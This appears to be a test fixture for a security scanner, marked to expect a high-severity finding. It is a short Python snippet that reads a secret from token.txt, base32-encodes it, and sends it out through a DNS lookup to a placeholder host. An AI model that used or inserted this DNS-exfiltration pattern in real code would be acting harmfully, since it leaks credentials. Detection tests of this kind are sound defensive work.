# expect: CDN609:high
import base64
import socket

secret = open("token.txt", "rb").read()
label = base64.b32encode(secret).decode().strip("=").lower()
socket.getaddrinfo(label + ".t.example.invalid", 53)
